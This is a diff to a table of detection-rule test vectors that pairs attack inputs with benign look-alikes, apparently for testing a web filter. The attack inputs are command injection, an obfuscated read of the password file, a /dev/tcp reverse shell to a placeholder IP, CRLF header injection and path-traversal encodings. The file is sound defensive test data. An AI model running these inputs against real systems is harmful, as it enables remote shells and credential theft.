@@ -107,6 +107,7 @@ V = {
  "rp-rce-053": (["sleep 5", "'sleep 10'", "which curl", "`ping 127.0.0.1`", "timeout 5 id"], ["sleep well", "sleep 8 hours a night", "which one?", "run `ping 127.0.0.1` to test", "which curl iron is best"]),
  "rp-proto-020": ([upload("a;b.txt"), upload("te\\\"st.php"), upload("1.j\\\\s\\\\p")], [upload("report.pdf"), upload("O'Brien resume.pdf"), upload("photo (1).jpg")]),
  "rp-proto-022": ([uri("/get?param=foo%uFF01"), uri("/?p=%c0%af"), uri("/x/%uff0e%uff0e/")], [uri("/?q=%C3%A9t%C3%A9"), uri("/?p=%25uff01")]),
+ "rp-rce-054": (["1;.shell whoami", ";\n.databases", "cat /et*/*wd", "ls /v?r/l*g/", "d=/dev&&(sh)0>$d/tcp/203.0.113.9/777"], ["see section 1.2", "the *.txt files", "cat pictures/2024", "src/**/*.js", "(shell) scripts"]),
  "rp-probe-003": ([uri("/server-status"), uri("/wp-config.php"), uri("/actuator/env")], [uri("/status"), uri("/wp-content/uploads/a.png")]),
  "rp-proto-001": (["x\r\nSet-Cookie: a=b", "foo%0d%0aLocation: http://evil", "a\nhttp/1.1 200 OK"], ["line one", "100%"]),
  "rp-proto-002": ([hdr("X-Test", "a%0d%0aSet-Cookie: x=1"), hdr("X-Test", "a\r\nb")], [hdr("X-Test", "plain value"), hdr("Accept", "text/html")]),
